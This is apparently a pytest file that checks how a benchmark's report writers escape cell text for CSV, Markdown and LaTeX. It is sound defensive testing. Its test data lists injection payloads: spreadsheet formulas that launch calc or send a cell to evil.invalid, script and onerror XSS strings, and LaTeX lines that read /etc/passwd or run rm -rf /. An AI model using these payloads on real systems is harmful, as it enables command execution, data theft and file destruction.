"""Names and answers that would act in Markdown, LaTeX and spreadsheets."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from hbench.report.escape import latex, markdown, spreadsheet
from hbench.report.table import Column, Table
from hbench.report.writers import Document, write

from .conftest import ATTACK, is_clean

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.invalid?x="&A1,"click")', "+1+1", "-1+1", "-A1", "--1",
    "@SUM(A1)", "\t=1+1", "\n=1+1", "＝1+1", "＋1", "－1+1", "＠SUM(A1)", "-", "+", "=", "-1e5x", "-٣", "+1,5", "-1 2",
)  # fmt: skip
NUMBERS = ("-1", "-1.5", "+2", "-1e5", "-1.25E-07", "0", "12")


def table_of(*texts: str) -> Document:
    """Return a document whose first cells are these texts."""
    table = Table("Scores", [Column("model", "left"), Column("value")])
    for text in texts:
        table.add([text, "0.5"])
    return Document([table], [{"model": text, "value": -0.5} for text in texts])


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(text: str) -> None:
    cell = spreadsheet(text)
    assert isinstance(cell, str)
    assert cell[0] == "'"
    (head, row) = csv.reader(io.StringIO(write(table_of(text), "csv")))
    assert head == ["model", "value"]
    assert row[0].startswith("'")
    assert row[1] == "-0.5"


@pytest.mark.parametrize("text", NUMBERS)
def test_numbers_stay_numbers_also_as_texts(text: str) -> None:
    assert spreadsheet(text) == text
    assert spreadsheet(float(text)) == float(text)
    assert float(text) == float(str(spreadsheet(text)))


def test_heads_of_columns_are_no_formulas_either() -> None:
    text = write(Document([], [{"=1+1": 1, "-2": 2}]), "csv")
    assert text.splitlines()[0] == "'=1+1,-2"


def test_cells_cannot_break_out_of_their_quotes() -> None:
    odd = 'a"b,c\nd;e'
    (_, row) = csv.reader(io.StringIO(write(table_of(odd), "csv")))
    assert row == [odd, "-0.5"]


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[click](javascript:alert(1))",
        "![x](https://evil.invalid/pixel.png)",
        "a | b",
        "a\n\n# A heading",
        "a\n---\n<b>b</b>",
        "`code`",
        "<!-- a comment -->",
        "&lt;script&gt;",
        "~~gone~~",
        "**loud**",
        "\\<b>",
        ATTACK,
    ],
)
def test_markdown_shows_text_as_text(text: str) -> None:
    from markdown_it import MarkdownIt

    page = MarkdownIt("gfm-like", {"html": True, "linkify": False}).render(write(table_of(text), "md"))
    assert page.count("<tr>") == 2
    assert not re.search(r"<(?!/?(table|thead|tbody|tr|th|td|strong)\b)", page.replace("<strong>loud</strong>", "!"))
    assert "<strong>" not in page
    cell = re.findall(r"<td[^>]*>(.*?)</td>", page, re.DOTALL)[0]
    for sign, entity in (("&lt;", "<"), ("&gt;", ">"), ("&quot;", '"'), ("&amp;", "&")):
        cell = cell.replace(sign, entity)
    from hbench.core.legible import visible

    assert cell.strip() == re.sub(r" +", lambda blanks: blanks.group(), visible(text).strip())


@pytest.mark.parametrize(
    "text",
    ["[2pt]x", "*x", r"\input{/etc/passwd}", r"\write18{rm -rf /}", "%", "$x^{2$", "#1", "a & b", "^^5c", "~", ATTACK],
)
def test_latex_shows_text_as_text(text: str) -> None:
    written = latex(text)
    assert is_clean(written)
    commands = set(re.findall(r"\\([a-zA-Z]+)", written))
    assert commands <= {"textbackslash", "textasciitilde", "textasciicircum", "textless", "textgreater"}
    # Of the signs with a meaning none stands alone.
    bare = re.sub(r"\\[a-zA-Z]+\{\}|\\[{}$&#_%]|\{[\[*]\}", "", written)
    assert not set(bare) & set("\\{}$&#_%^~*[")
    lines = write(table_of(text), "latex").splitlines()
    assert lines[5].startswith(latex(text))
    assert not lines[5].startswith(("[", "*"))


@pytest.mark.skipif(shutil.which("pdflatex") is None, reason="there is no LaTeX here")
def test_latex_compiles(tmp_path: Path) -> None:
    body = write(table_of("[2pt]x", "*x", r"\input{/etc/passwd}", "$x^{2$ & # % ~ ^ _ { }"), "latex")
    page = "\\documentclass{article}\\usepackage{booktabs}\\begin{document}" + body + "\\end{document}"
    (tmp_path / "a.tex").write_text(page)
    done = subprocess.run(["pdflatex", "-halt-on-error", "a.tex"], cwd=tmp_path, capture_output=True, text=True)
    assert done.returncode == 0, done.stdout[-1000:]


def test_markdown_escapes_are_those_of_commonmark() -> None:
    assert markdown("a|b&c~d$e") == "a\\|b\\&c\\~d\\$e"


def test_a_cell_that_begins_with_what_is_not_seen_shows_it() -> None:
    assert spreadsheet("\r=1+1") == "\\x0d=1+1"
    assert spreadsheet("\u200b=1+1") == "\\u200b=1+1"
